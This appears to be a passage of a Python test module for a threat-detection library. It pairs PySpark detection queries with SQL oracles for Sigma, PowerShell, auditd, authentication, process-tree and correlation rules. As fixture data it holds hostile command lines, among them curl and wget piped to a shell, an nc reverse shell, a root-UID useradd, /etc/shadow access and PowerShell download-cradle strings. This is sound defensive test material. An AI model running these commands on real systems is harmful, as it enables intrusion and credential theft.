"""Queries and oracles: rules (E), process tree (F), correlation (G), reports (H)."""

from __future__ import annotations

from pyspark.sql import DataFrame
from pyspark.sql import functions as F

from sigloom.functions.scalars import decoded_command, process_key
from sigloom.operators import correlate, health, packs, proctree, ransomware, reports, rules
from sigloom.plans.behaviour import _WINDOWS, BURST, SEC
from sigloom.plans.fixtures import scratch, sec_events
from sigloom.sources.parsers import task_name

DAY = 86400


def _q(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


SAMPLES = {r"re:curl.*\|.*bash": "curl -s http://x |bash -x", r"re:wget.*\|.*sh": "wget -qO- http://x| sh"}


def _flat_texts(pack: str) -> list[str]:
    """A text for each needle of a pack: the needle, or what its pattern finds."""
    return [SAMPLES.get(n, n) for v in packs.PACKS[pack].values() for n in v]


def _needle_sql(needle: str) -> str:
    return f"regexp_matches(c, {_q(needle[3:])})" if needle.startswith("re:") else f"contains(c, {_q(needle)})"


def _with_text(events: DataFrame, pack: str) -> DataFrame:
    """Command lines built from a pack: texts i and i+1 of the flat list, i = k % n; every third row has none."""
    flat = _flat_texts(pack)
    item = lambda shift: F.element_at(F.array(*[F.lit(n) for n in flat]), (F.pmod(F.col("k") + shift, F.lit(len(flat))) + 1).cast("int"))
    text = F.when(F.col("k") % 3 == 0, F.lit("nothing here")).otherwise(F.concat_ws(" ;; ", item(0), item(1)))
    return events.filter("event_type = 'process'").withColumn("command_line", text)


def _pack_sql(pack: str) -> str:
    flat = _flat_texts(pack)
    array = "[" + ", ".join(map(_q, flat)) + "]"
    text = f"CASE WHEN k % 3 = 0 THEN 'nothing here' ELSE {array}[k % {len(flat)} + 1] || ' ;; ' || {array}[(k + 1) % {len(flat)} + 1] END"
    hits = ", ".join(f"CASE WHEN {' OR '.join(map(_needle_sql, v))} THEN {_q(s)} END" for s, v in packs.PACKS[pack].items())
    return f"""SELECT event_id, host, {_q(pack)} AS pack, array_to_string(s, ',') AS selections, round(least(1.0, 0.6 + 0.1 * len(s)), 6) AS score
FROM (SELECT *, list_filter([{hits}], lambda v: v IS NOT NULL) AS s FROM (SELECT *, {text} AS c FROM sec WHERE event_type = 'process')) WHERE len(s) > 0"""


def _joined(df: DataFrame) -> DataFrame:
    return df.withColumn("selections", F.array_join("selections", ","))


def _pack_query(pack: str):
    def query(spark, sf_dir):
        return _joined(rules.sigma_match(_with_text(sec_events(spark, sf_dir), pack), pack))

    return query


def sigma_match(spark, sf_dir):
    return _joined(rules.sigma_all(sec_events(spark, sf_dir).filter("event_type = 'process'"), ("powershell_suspicious", "ps_scriptblock", "no_such_pack")))


_PLAIN_SIGMA = " UNION ALL ".join(
    f"SELECT event_id, host, {_q(p)} AS pack, array_to_string(s, ',') AS selections, round(least(1.0, 0.6 + 0.1 * len(s)), 6) AS score FROM (SELECT *, list_filter(["
    + ", ".join(f"CASE WHEN {' OR '.join(f'contains(command_line, {_q(n)})' for n in v)} THEN {_q(s)} END" for s, v in packs.PACKS[p].items())
    + "], lambda v: v IS NOT NULL) AS s FROM sec WHERE event_type = 'process') WHERE len(s) > 0"
    for p in ("powershell_suspicious", "ps_scriptblock")
)


def _ps_text(events: DataFrame) -> DataFrame:
    texts = ["IEX `a ${x}", "(New-Object Net.WebClient).DownloadString('x')", "amsiInitFailed", "powershell -enc SGVsbG9Xb3JsZEhlbGxvV29ybGQ=", "cmd /c powershell powershell", "dir"]
    return events.filter("event_type = 'process'").withColumn("command_line", F.element_at(F.array(*[F.lit(t) for t in texts]), (F.col("k") % 6 + 1).cast("int")))


def ps_detectors(spark, sf_dir):
    return rules.ps_detectors(_ps_text(sec_events(spark, sf_dir)))


def lotl_cmdline(spark, sf_dir):
    return rules.lotl_cmdline(sec_events(spark, sf_dir))


def lotl_eventid(spark, sf_dir):
    rows = sec_events(spark, sf_dir).filter("event_type = 'process'")
    raw = F.when(F.col("k") % 2 == 0, F.concat(F.lit('{"TaskName":"t'), F.col("k").cast("string"), F.lit('"}'))).otherwise(F.concat(F.lit('{"EventData":{"TaskName":"e'), F.col("k").cast("string"), F.lit('"}}')))
    raw = F.when(F.col("u") == 0, F.lit("{}")).otherwise(raw)
    return rules.lotl_eventid(rows.withColumn("raw", raw), task_name(F.col("raw"))).select("event_id", "host", "event_code", "task_name", "score", "confidence", "technique", "signal_type")


def spawn_suspect(spark, sf_dir):
    rows = sec_events(spark, sf_dir).filter("image IS NOT NULL").withColumn("parent_image", F.concat(F.lit("C:\\Apps\\"), F.initcap("process_name")))
    return rules.spawn_suspect(rows).select("event_id", "host", "parent", "child", "score")


def signal_id(spark, sf_dir):
    rows = rules.lotl_cmdline(sec_events(spark, sf_dir)).withColumn("signal_type", F.concat(F.lit("lotl."), F.col("rule_id")))
    return rules.with_signal_id(rows).select("event_id", "signal_id")


def auditd_rows(events: DataFrame) -> DataFrame:
    """Kernel audit records by rule on k."""
    k = F.col("k")
    return events.select(
        "event_id",
        "host",
        F.when(k % 5 == 1, "chmod").when(k % 5 == 3, "connect").otherwise("open").alias("syscall"),
        F.when(k % 5 == 0, "/etc/shadow").otherwise("/tmp/a").alias("path"),
        F.when(k % 2 == 0, "4755").otherwise("0644").alias("mode"),
        F.when(k % 3 == 0, "/usr/bin/python3").otherwise("/usr/bin/curl").alias("exe"),
        F.when(k % 7 == 0, "useradd -o -u 0 x").when(k % 7 == 1, "nc -e /bin/bash 1.2.3.4").otherwise("ls").alias("cmd"),
    )


def auditd_detectors(spark, sf_dir):
    return rules.auditd_detectors(auditd_rows(sec_events(spark, sf_dir)))


def auth_rules(spark, sf_dir):
    k = F.col("k")
    rows = sec_events(spark, sf_dir).select(
        "event_id", "host", F.when(k % 3 == 0, "success").otherwise("failure").alias("outcome"), F.when(k % 4 == 0, "root").otherwise("bob").alias("user"), F.lit("ssh").alias("method"),
        F.when(k % 5 == 0, "sudo -s").when(k % 5 == 1, "sudo /usr/bin/vim /etc/x").otherwise("sudo ls").alias("command"),
        F.when(k % 7 == 0, "/root/.ssh/authorized_keys").alias("file_path"), F.when(k % 2 == 0, "WRITE").otherwise("open").alias("operation"),
    )
    return rules.auth_rules(rows)


def _ai_rows(events: DataFrame) -> DataFrame:
    names = F.array(*[F.lit(n) for n in ("ollama", "lm studio", "llama-server", "localai", "vllm", "nc")])
    return events.filter("event_type = 'network'").select("event_id", "host", F.element_at(names, (F.col("k") % 6 + 1).cast("int")).alias("process"), F.col("dest_port").cast("int").alias("port"), "direction", "u")


def ai_network(spark, sf_dir):
    rows = _ai_rows(sec_events(spark, sf_dir)).withColumn("process", F.when(F.col("u") < 3, F.col("process")).otherwise("localai"))
    return rules.ai_network(rows)


def ai_integrity(spark, sf_dir):
    files = sec_events(spark, sf_dir).filter("event_type = 'file'").select("event_id", "host", F.concat(F.lit("/m/"), (F.col("k") % 20).cast("string"), F.when(F.col("k") % 2 == 0, ".GGUF").otherwise(".txt")).alias("path"), F.when(F.col("k") % 50 == 4, "bad").otherwise("good").alias("hash"))
    base = files.select("host", "path").distinct().withColumn("hash", F.lit("good"))
    return rules.ai_integrity(files, base).select("event_id", "host", "path", "score", "technique")


def ai_baseline_observe(spark, sf_dir):
    rows = _ai_rows(sec_events(spark, sf_dir))
    known = F.broadcast(spark.createDataFrame(list(packs.AI_SERVERS), "process string, port int"))
    learned = rows.filter("host = 'host-0'").join(known, ["process", "port"], "left_semi").select("host", "process", "port").distinct()
    base, signals = rules.ai_baseline_observe(rows, known, learned)
    return base.groupBy("host").agg(F.count("*").alias("n")).select("host", F.lit("baseline").alias("what"), "n").unionByName(signals.groupBy("host").agg(F.count("*").alias("n")).select("host", F.lit("signal").alias("what"), "n"))


def blob_scan(spark, sf_dir):
    docs = spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", "text")
    names = F.lit("connect socket dup2 execvp fork ")
    head = F.when(F.col("doc_id") % 10 == 0, F.concat(F.unhex(F.lit("7F454C46")), F.encode(names, "UTF-8"), F.unhex(F.lit("23000000")))).when(F.col("doc_id") % 10 == 1, F.concat(F.unhex(F.lit("7F454C460200AABBCCDDEEFF")), F.encode(F.lit("socket dup2 execvp"), "UTF-8"))).otherwise(F.encode(F.lit("-"), "UTF-8"))
    return rules.blob_scan(docs.select("doc_id", F.concat(head, F.encode(F.coalesce("text", F.lit("")), "UTF-8")).alias("content")))


def tree(spark, sf_dir) -> DataFrame:
    rows = sec_events(spark, sf_dir).withColumn("image", F.coalesce("image", "process_name")).withColumn("parent_image", F.when(F.col("k") % 9 == 0, "own.exe"))
    return proctree.nodes(rows)


def proc_nodes(spark, sf_dir):
    return tree(spark, sf_dir).select("host", "pid", "ppid", "image", "event_id")


def proc_parents(spark, sf_dir):
    return proctree.parents(tree(spark, sf_dir)).select("host", "pid", "image", "parent")


def proc_children(spark, sf_dir):
    return proctree.children(proctree.parents(tree(spark, sf_dir))).withColumn("child_images", F.array_join("child_images", ","))


def proc_ancestors(spark, sf_dir):
    return proctree.ancestors(tree(spark, sf_dir), scratch(spark)).select("host", "pid", F.array_join(F.col("chain").cast("array<string>"), ">").alias("chain"))


def spawn_report(spark, sf_dir):
    events = sec_events(spark, sf_dir)
    return proctree.spawn_report(events, tree(spark, sf_dir))


def _keyed(events: DataFrame) -> DataFrame:
    return events.withColumn("process_key", process_key(F.col("process_name"), F.col("pid"), F.col("process_path")))


def recon_hits(spark, sf_dir) -> DataFrame:
    kind = F.when(F.col("command_line").contains("whoami"), "recon_identity").when(F.col("command_line").contains("net user"), "recon_enum")
    return _keyed(sec_events(spark, sf_dir)).withColumn("kind", kind).filter("kind IS NOT NULL").select("host", "process_key", "us", "event_id", "kind")


def recon_sequence(spark, sf_dir):
    return correlate.recon_sequence(recon_hits(spark, sf_dir), DAY)


def failures(spark, sf_dir) -> DataFrame:
    return sec_events(spark, sf_dir).filter("outcome = 'failure'").select("host", "src_ip", "us", "event_id")


def ssh_bruteforce(spark, sf_dir):
    return correlate.bruteforce(failures(spark, sf_dir), 5, DAY)


def signals(spark, sf_dir) -> DataFrame:
    """(event_id, host, us, signal_type, score, confidence, tactic, technique) of the single-event layers."""
    events = sec_events(spark, sf_dir)
    return correlate.union_layers(events, _layers())[0]


def _layers() -> list:
    named = lambda hits: F.transform(hits, lambda h: F.struct(F.concat(F.lit("lotl."), h["rule_id"]).alias("signal_type"), h["score"].alias("score"), h["tactic"].alias("tactic"), h["technique"].alias("technique")))
    script = lambda hits: F.transform(hits, lambda h: F.struct(h["signal_type"].alias("signal_type"), h["score"].alias("score"), F.lit("").alias("tactic"), F.lit("T1059.001").alias("technique")))
    process = lambda hits: F.filter(hits, lambda _: F.col("event_type") == "process")
    return [("lotl", lambda: named(rules.lotl_hits())), ("task", lambda: process(rules.task_hits())), ("ps", lambda: script(rules.ps_hits()))]


def signal_union(spark, sf_dir):
    return signals(spark, sf_dir)


def signal_dedup(spark, sf_dir):
    return correlate.dedup(signals(spark, sf_dir)).withColumn("signal_types", F.array_join("signal_types", ","))


def _behaviour(spark, sf_dir):
    return ransomware.ransomware_signal(sec_events(spark, sf_dir), BURST, 2)


def alerts(spark, sf_dir):
    return correlate.alerts(_behaviour(spark, sf_dir)).withColumn("reasoning", F.array_join("reasoning", ";")).withColumn("related_signals", F.array_join("related_signals", ","))


def alert_timeline(spark, sf_dir):
    events = _keyed(sec_events(spark, sf_dir))
    mine = events.filter("event_type = 'process' AND k % 10 = 0")
    return correlate.timeline(mine.select(F.concat(F.lit("ALERT_rw_"), F.col("process_key")).alias("alert_id"), "event_id"), events)


def replay_new_signals(spark, sf_dir):
    rows = rules.with_signal_id(signals(spark, sf_dir))
    return correlate.unseen(rows.unionByName(rows), rows.filter(F.col("host") == "host-1")).select("signal_id", "event_id")


def _us(signals_: DataFrame, events: DataFrame) -> DataFrame:
    return signals_.join(events.select("event_id", "us"), "event_id")


def task_corroboration(spark, sf_dir):
    events = sec_events(spark, sf_dir)
    found = _us(rules.lotl_cmdline(events).filter("rule_id = 'LOTL-006'"), events).select("host", "event_id", "us", "confidence")
    return correlate.corroborated(events.filter("event_code = '4702'").select("host", "us"), found, 21600)


def process_lifetime(spark, sf_dir):
    return correlate.lifetimes(sec_events(spark, sf_dir).filter("event_code IN ('4688', '4689')").select("host", "pid", "us", "event_id", "event_code"))


def kill_chain(spark, sf_dir):
    events = sec_events(spark, sf_dir)
    return correlate.kill_chain(_us(signals(spark, sf_dir), events).select("host", "us", "event_id", "technique").distinct(), seconds=21600)


def legit_baseline(spark, sf_dir):
    events = sec_events(spark, sf_dir)
    rows = proctree.spawn_report(events, tree(spark, sf_dir)).join(events.select("event_id", "us"), "event_id")
    return correlate.not_habitual(rows, correlate.habits(rows), 4).select("event_id", "host", "username", "parent", "child")


def ioc_enrich(spark, sf_dir):
    texts = sec_events(spark, sf_dir).select(F.concat_ws(" ", "command_line", "dest_ip").alias("text"))
    feed = spark.createDataFrame([("10.0.0.5", "internal"), ("http://x/y", "bad")], "ioc string, reputation string")
    found, store = correlate.iocs(texts), correlate.IocStore(spark, f"{scratch(spark)}/iocs")
    store.look_up(found, feed)
    return store.enriched(found)


def b64_decode(spark, sf_dir):
    events = sec_events(spark, sf_dir).filter("event_type = 'process'")
    encoded = F.concat(F.lit("powershell -EncodedCommand "), F.base64(F.encode(F.concat(F.lit("whoami /all "), F.col("event_id")), "UTF-16LE")))
    return events.select("event_id", decoded_command(F.when(F.col("k") % 4 == 0, F.lit("dir")).otherwise(encoded)).alias("decoded"))


def response_plan(spark, sf_dir):
    rows = _behaviour(spark, sf_dir).withColumn("technique", F.lit("T1486")).select("signal_id", "signal_type", "score", "technique")
    brute = correlate.bruteforce(failures(spark, sf_dir), 5, DAY).select(F.concat(F.lit("bf-"), F.col("event_id")).alias("signal_id"), F.lit("auth.bruteforce").alias("signal_type"), F.lit(0.8).alias("score"), "technique")
    return correlate.response_plan(rows.unionByName(brute))


def top_signals(spark, sf_dir):
    return reports.top_signals(rules.with_signal_id(signals(spark, sf_dir)), 20).select("signal_id", "signal_type", "score")


def by_tactic(spark, sf_dir):
    return reports.by_tactic(rules.with_signal_id(signals(spark, sf_dir)))


def mitre_coverage(spark, sf_dir):
    return reports.coverage(signals(spark, sf_dir))


def mitre_gaps(spark, sf_dir):
    return reports.gaps(spark.createDataFrame(list(packs.CATALOGUE), "tactic string, technique string"), signals(spark, sf_dir))


def hunt_powershell(spark, sf_dir):
    return reports.hunt(sec_events(spark, sf_dir), ("%-enc%", "%downloadstring%", "%iex%"), ("command_line",), ("host", "username"))


def hunt_wmic(spark, sf_dir):
    return reports.hunt(sec_events(spark, sf_dir), ("%wmic%process call create%", "%/node:%"), ("host", "username", "command_line"), ("process_name",))


def hunt_schtasks(spark, sf_dir):
    events = sec_events(spark, sf_dir)
    rows = events.filter(F.col("event_code").isin("4698", "4699") | F.lower("command_line").like("%schtasks%/create%"))
    return rows.groupBy("host", "username", "event_code", "command_line").agg(F.count("*").alias("n"))


def hunt_certutil(spark, sf_dir):
    return reports.hunt(sec_events(spark, sf_dir), ("%certutil%-urlcache%", "%certutil%-decode%", "%certutil%-encode%"), ("host", "command_line"))


def run_counters(spark, sf_dir):
    run = health.run_layers(sec_events(spark, sf_dir), _layers(), f"{scratch(spark)}/signals")
    return reports.run_counters(run, correlate.alerts(_behaviour(spark, sf_dir)))


_LOTL = """lo AS (SELECT event_id, host, us, 'LOTL-' || r AS rule_id, score, CASE WHEN r = '001' THEN 0.9 ELSE score END AS confidence, tactic, technique FROM sec JOIN (VALUES
(0, '001', 0.92, 'Impact', 'T1490'), (1, '002', 0.8, 'Lateral Movement', 'T1047'), (2, '004', 0.82, 'Defense Evasion', 'T1140'), (6, '006', 0.75, 'Persistence', 'T1053.005')) v(m, r, score, tactic, technique) ON k % 10 = m WHERE event_type = 'process'),
te AS (SELECT event_id, host, us, event_code, score, confidence, tactic, 'T1053.005' AS technique FROM sec JOIN (VALUES ('4698', 0.7, 0.65, 'Persistence'), ('4699', 0.65, 0.6, 'Defense Evasion'), ('4702', 0.55, 0.5, 'Persistence')) v(c, score, confidence, tactic) ON event_code = c),
sg AS (SELECT event_id, host, us, 'lotl.' || rule_id AS signal_type, score, tactic, technique, 'lotl' AS layer FROM lo UNION ALL SELECT event_id, host, us, 'lotl.scheduled_task.' || event_code, score, tactic, technique, 'task' FROM te
    UNION ALL SELECT event_id, host, us, 'ps.encoded', 0.65, '', 'T1059.001', 'ps' FROM sec WHERE event_type = 'process' AND k % 10 = 5),
si AS (SELECT *, 'sig-' || substr(sha256(signal_type || '|' || event_id || '|'), 1, 16) AS signal_id FROM sg)"""
S = f"{SEC}, {_LOTL}"
_NODES = """nd AS (SELECT host, pid, ppid, image, CASE WHEN k % 9 = 0 THEN 'own.exe' END AS parent_image, event_id FROM (SELECT * REPLACE (coalesce(image, process_name) AS image), row_number() OVER (PARTITION BY host, pid ORDER BY us DESC, event_id DESC) AS rn FROM sec) WHERE rn = 1),
pr AS (SELECT n.host, n.pid, n.image, coalesce(n.parent_image, a.image, 'root') AS parent FROM nd n LEFT JOIN nd a ON a.host = n.host AND a.pid = n.ppid)"""
T = f"{SEC}, {_NODES}"
_PAIRS = "pairs(p, c) AS (VALUES " + ", ".join(f"({_q(p)}, {_q(c)})" for p, c in packs.SPAWN_PAIRS) + ")"
_SPAWN = f"{_PAIRS}, sr AS (SELECT e.event_id, e.host, e.us, pr.parent, e.image AS child, e.command_line, e.username, 0.78 AS score FROM sec e JOIN pr USING (host, pid) JOIN pairs ON pairs.p = pr.parent AND pairs.c = e.image WHERE e.image IS NOT NULL)"
_PK = "lower(process_name) || '|' || pid || '|' || lower(process_path)"
_BRUTE = f"bf AS (SELECT host, src_ip, event_id, us, technique FROM (SELECT *, 'T1110.001' AS technique, lag(r, 1, false) OVER (PARTITION BY host, src_ip ORDER BY us, event_id) AS b FROM (SELECT *, coalesce(us - lag(us, 4) OVER (PARTITION BY host, src_ip ORDER BY us, event_id) <= {DAY}000000, false) AS r FROM sec WHERE outcome = 'failure')) WHERE r AND NOT b)"
_AI = "ai AS (SELECT event_id, host, u, ['ollama', 'lm studio', 'llama-server', 'localai', 'vllm', 'nc'][k % 6 + 1] AS process, dest_port AS port, direction FROM sec WHERE event_type = 'network'), kn(process, port) AS (VALUES ('ollama', 11434), ('lm studio', 1234), ('llama-server', 8080), ('localai', 8080), ('vllm', 8000))"
_ALERTS = _WINDOWS.replace("SELECT host, process_key, 'rw_'", ", al AS (SELECT host, process_key, 'rw_'", 1) + ")"
_SEVERITY = "CASE WHEN score >= 0.85 THEN 'critical' WHEN score >= 0.6 THEN 'high' WHEN score >= 0.4 THEN 'medium' ELSE 'low' END"

QUERIES = {f"sigma_pack_{p}": _pack_query(p) for p in packs.PACKS} | {
    f.__name__: f
    for f in (
        sigma_match, ps_detectors, lotl_cmdline, lotl_eventid, spawn_suspect, signal_id, auditd_detectors, auth_rules, ai_network, ai_integrity, ai_baseline_observe, blob_scan,
        proc_nodes, proc_parents, proc_children, proc_ancestors, spawn_report, recon_sequence, ssh_bruteforce, signal_union, signal_dedup, alerts, alert_timeline, replay_new_signals,
        task_corroboration, process_lifetime, kill_chain, legit_baseline, ioc_enrich, b64_decode, response_plan, top_signals, by_tactic, mitre_coverage, mitre_gaps,
        hunt_powershell, hunt_wmic, hunt_schtasks, hunt_certutil, run_counters,
    )
}
ORACLES = {f"sigma_pack_{p}": f"{SEC} {_pack_sql(p)}" for p in packs.PACKS} | {
    "sigma_match": f"{SEC} {_PLAIN_SIGMA}",
    "ps_detectors": f"{SEC} SELECT event_id, host, 'ps.' || n AS signal_type, score FROM sec JOIN (VALUES (0, 'obfuscation', 0.7), (1, 'download', 0.75), (2, 'amsi', 0.85), (3, 'encoded', 0.65), (4, 'nested', 0.6)) v(m, n, score) ON k % 6 = m WHERE event_type = 'process'",
    "lotl_cmdline": f"{S} SELECT event_id, host, rule_id, score, confidence, tactic, technique FROM lo",
    "lotl_eventid": f"{S} SELECT te.event_id, te.host, te.event_code, CASE WHEN u = 0 THEN 'unknown_task' WHEN k % 2 = 0 THEN 't' || k ELSE 'e' || k END AS task_name, score, confidence, technique, 'lotl.scheduled_task.' || te.event_code AS signal_type FROM te JOIN sec USING (event_id)",
    "spawn_suspect": f"{SEC}, {_PAIRS} SELECT event_id, host, p AS parent, c AS child, 0.78 AS score FROM sec JOIN pairs ON p = process_name AND c = image",
    "signal_id": f"{S} SELECT event_id, signal_id FROM si WHERE layer = 'lotl'",
    "auditd_detectors": f"{SEC} SELECT event_id, host, t AS technique, 0.8 AS score FROM sec, (VALUES ('T1003.008'), ('T1548.001'), ('T1136.001'), ('T1071.001'), ('T1059.004')) v(t) WHERE (t = 'T1003.008' AND k % 5 = 0) OR (t = 'T1548.001' AND k % 5 = 1 AND k % 2 = 0) OR (t = 'T1136.001' AND k % 7 = 0) OR (t = 'T1071.001' AND k % 5 = 3 AND k % 3 = 0) OR (t = 'T1059.004' AND k % 7 = 1)",
    "auth_rules": f"{SEC} SELECT event_id, host, t AS technique FROM sec, (VALUES ('T1078.003'), ('T1548.003'), ('T1098.004')) v(t) WHERE (t = 'T1078.003' AND k % 3 = 0 AND k % 4 = 0) OR (t = 'T1548.003' AND k % 5 IN (0, 1)) OR (t = 'T1098.004' AND k % 7 = 0 AND k % 2 = 0)",
    "ai_network": f"{SEC}, {_AI}, a2 AS (SELECT * REPLACE (CASE WHEN u < 3 THEN process ELSE 'localai' END AS process) FROM ai) SELECT event_id, process, port, CASE WHEN direction = 'inbound' THEN 0.9 ELSE 0.7 END AS score, CASE WHEN direction = 'inbound' THEN 'AML.T0012' ELSE 'AML.T0040' END AS technique FROM a2 WHERE port IN (SELECT port FROM kn) AND NOT EXISTS (SELECT 1 FROM kn WHERE kn.process = a2.process AND kn.port = a2.port)",
    "ai_integrity": f"{SEC} SELECT event_id, host, '/m/' || (k % 20) || '.GGUF' AS path, 0.92 AS score, 'AML.T0018' AS technique FROM sec WHERE event_type = 'file' AND k % 2 = 0 AND k % 50 = 4",
    "ai_baseline_observe": f"{SEC}, {_AI} SELECT host, 'baseline' AS what, count(*) AS n FROM (SELECT DISTINCT host, ai.process, ai.port FROM ai JOIN kn USING (process, port)) GROUP BY host UNION ALL SELECT host, 'signal', count(*) FROM ai WHERE NOT EXISTS (SELECT 1 FROM kn WHERE kn.process = ai.process AND kn.port = ai.port) GROUP BY host",
    "blob_scan": "SELECT doc_id, CASE WHEN doc_id % 10 = 0 THEN 'exact_sample' ELSE 'family' END AS rule FROM documents WHERE doc_id % 10 IN (0, 1)",
    "proc_nodes": f"{T} SELECT host, pid, ppid, image, event_id FROM nd",
    "proc_parents": f"{T} SELECT host, pid, image, parent FROM pr",
    "proc_children": f"{T} SELECT parent, CAST(count(*) AS BIGINT) AS n_children, string_agg(DISTINCT image, ',' ORDER BY image) AS child_images FROM pr GROUP BY parent",
    "proc_ancestors": f"{T}, ch AS (SELECT host, pid, pid AS at_pid, CAST([] AS BIGINT[]) AS chain, 0 AS d FROM nd UNION ALL SELECT c.host, c.pid, n.ppid, list_prepend(n.ppid, c.chain), d + 1 FROM ch c JOIN nd n ON n.host = c.host AND n.pid = c.at_pid JOIN nd a ON a.host = n.host AND a.pid = n.ppid WHERE d < 10 AND NOT list_contains(c.chain, n.ppid)) SELECT host, pid, arg_max(array_to_string(chain, '>'), d) AS chain FROM ch GROUP BY host, pid",
    "spawn_report": f"{T}, {_SPAWN} SELECT event_id, host, parent, child, command_line, username, score FROM sr",
    "recon_sequence": f"{SEC} SELECT host, process_key, event_id, us, identity_us, 0.8 AS score, 'T1087' AS technique FROM (SELECT *, max(CASE WHEN k % 10 = 3 THEN us END) OVER (PARTITION BY host, process_key ORDER BY us, event_id ROWS UNBOUNDED PRECEDING) AS identity_us FROM (SELECT *, {_PK} AS process_key FROM sec WHERE event_type = 'process' AND k % 10 IN (3, 4))) WHERE k % 10 = 4 AND us - identity_us < {DAY}000000",
    "ssh_bruteforce": f"{SEC}, {_BRUTE} SELECT * FROM bf",
    "signal_union": f"{S} SELECT event_id, host, signal_type, score, tactic, technique, layer FROM sg",
    "signal_dedup": f"{S} SELECT host, event_id, count(DISTINCT signal_type) AS n_types, string_agg(DISTINCT signal_type, ',' ORDER BY signal_type) AS signal_types, round(least(1.0, max(score) + 0.05 * (count(DISTINCT signal_type) - 1)), 6) AS score FROM sg GROUP BY host, event_id",
    "alerts": f"{_ALERTS} SELECT 'ALERT_' || signal_id AS alert_id, 'Possible ransomware activity (' || {_SEVERITY} || ')' AS title, {_SEVERITY} AS severity, confidence, host, process_key, 'Ransomware heuristic score=' || printf('%.2f', score) AS summary, array_to_string(list_transform(string_split(risk_factors, ','), lambda r: 'Risk factor matched: ' || r), ';') AS reasoning, signal_id AS related_signals FROM al WHERE score >= 0.3",
    "alert_timeline": f"{SEC} SELECT 'ALERT_rw_' || pk AS alert_id, row_number() OVER (PARTITION BY pk ORDER BY us, event_id) AS place, event_id, us, event_type, process_name, pid, operation, file_path, dest_ip, dest_port FROM (SELECT *, {_PK} AS pk FROM sec) WHERE event_type = 'process' AND k % 10 = 0",
    "replay_new_signals": f"{S} SELECT signal_id, event_id FROM si WHERE host <> 'host-1'",
    "task_corroboration": f"{S}, x AS (SELECT host, event_id, us, EXISTS (SELECT 1 FROM sec c WHERE c.event_code = '4702' AND c.host = lo.host AND abs(c.us - lo.us) <= 21600000000) AS corroborated FROM lo WHERE rule_id = 'LOTL-006') SELECT host, event_id, us, CASE WHEN corroborated THEN 0.9 ELSE 0.75 END AS confidence, corroborated FROM x",
    "process_lifetime": f"{SEC}, x AS (SELECT host, pid, event_id, us, event_code FROM sec WHERE event_code IN ('4688', '4689')), y AS (SELECT s.host, s.pid, s.event_id, s.us AS start_us, (SELECT min(us) FROM x e WHERE e.host = s.host AND e.pid = s.pid AND e.us > s.us AND e.event_code = '4689') AS e, (SELECT min(us) FROM x e WHERE e.host = s.host AND e.pid = s.pid AND e.us > s.us AND e.event_code = '4688') AS n FROM x s WHERE event_code = '4688') SELECT host, pid, event_id, start_us, CASE WHEN n IS NULL OR e <= n THEN e END AS end_us, CASE WHEN n IS NULL OR e <= n THEN (e - start_us) / 1e6 END AS seconds FROM y",
    "kill_chain": f"{S}, g AS (SELECT DISTINCT host, us, event_id, technique FROM sg), w0 AS (SELECT *, max(CASE WHEN technique LIKE 'T1059%' THEN us END) OVER (PARTITION BY host ORDER BY us, event_id ROWS UNBOUNDED PRECEDING) AS c0 FROM g), w1 AS (SELECT *, CASE WHEN technique LIKE 'T1053.005%' AND us - c0 <= 21600000000 THEN c0 END AS h1 FROM w0), w2 AS (SELECT *, last_value(h1 IGNORE NULLS) OVER (PARTITION BY host ORDER BY us, event_id ROWS UNBOUNDED PRECEDING) AS c1 FROM w1) SELECT host, event_id, us, c1 AS start_us FROM w2 WHERE technique LIKE 'T1047%' AND us - c1 <= 21600000000",
    "legit_baseline": f"{T}, {_SPAWN} SELECT event_id, host, username, parent, child FROM sr WHERE NOT EXISTS (SELECT 1 FROM sr h WHERE h.host = sr.host AND h.username = sr.username AND h.parent = sr.parent AND h.child = sr.child HAVING count(DISTINCT us // 86400000000) >= 4)",
    "ioc_enrich": f"{SEC}, t AS (SELECT concat_ws(' ', command_line, dest_ip) AS t FROM sec), i AS (SELECT 'ip' AS kind, unnest(regexp_extract_all(t, '[0-9]{{1,3}}(?:\\.[0-9]{{1,3}}){{3}}')) AS ioc FROM t UNION ALL SELECT 'url', unnest(regexp_extract_all(t, 'https?://[^ \"]+')) FROM t) SELECT ioc, kind, count(*) AS n, CASE ioc WHEN '10.0.0.5' THEN 'internal' WHEN 'http://x/y' THEN 'bad' END AS reputation FROM i GROUP BY ALL",
    "b64_decode": f"{SEC} SELECT event_id, CASE WHEN k % 4 <> 0 THEN 'whoami /all ' || event_id END AS decoded FROM sec WHERE event_type = 'process'",
    "response_plan": _ALERTS.replace("fe AS (SELECT", f"{_BRUTE}, fe AS (SELECT", 1) + " SELECT signal_id, a AS action, 'high' AS risk, 'dry_run' AS mode FROM al, (VALUES ('kill_process', 0.95), ('isolate_host', 0.85)) v(a, s) WHERE score >= s UNION ALL SELECT 'bf-' || event_id, 'block_ip', 'low', 'dry_run' FROM bf",
    "top_signals": f"{S} SELECT signal_id, signal_type, score FROM si ORDER BY score DESC, signal_id LIMIT 20",
    "by_tactic": f"{S} SELECT coalesce(nullif(tactic, ''), 'Unknown') AS tactic, count(*) OVER (PARTITION BY tactic) AS n_tactic, row_number() OVER (PARTITION BY tactic ORDER BY score DESC, signal_id) AS place, signal_id, score FROM si",
    "mitre_coverage": f"{S} SELECT tactic, technique, max(score) AS score, count(*) AS n FROM sg GROUP BY ROLLUP (tactic, technique)",
    "mitre_gaps": f"{S} SELECT * FROM (VALUES {', '.join(f'({_q(a)}, {_q(b)})' for a, b in packs.CATALOGUE)}) v(tactic, technique) WHERE technique NOT IN (SELECT technique FROM sg)",
    "hunt_powershell": f"{SEC} SELECT command_line, count(*) AS n, string_agg(DISTINCT host, ',' ORDER BY host) AS hosts, string_agg(DISTINCT username, ',' ORDER BY username) AS usernames FROM sec WHERE command_line LIKE '%-enc%' GROUP BY ALL",
    "hunt_wmic": f"{SEC} SELECT host, username, command_line, count(*) AS n, string_agg(DISTINCT process_name, ',' ORDER BY process_name) AS process_names FROM sec WHERE command_line LIKE '%wmic%' GROUP BY ALL",
    "hunt_schtasks": f"{SEC} SELECT host, username, event_code, command_line, count(*) AS n FROM sec WHERE event_code IN ('4698', '4699') OR command_line ILIKE '%schtasks%/create%' GROUP BY ALL",
    "hunt_certutil": f"{SEC} SELECT host, command_line, count(*) AS n FROM sec WHERE command_line LIKE '%certutil%' GROUP BY ALL",
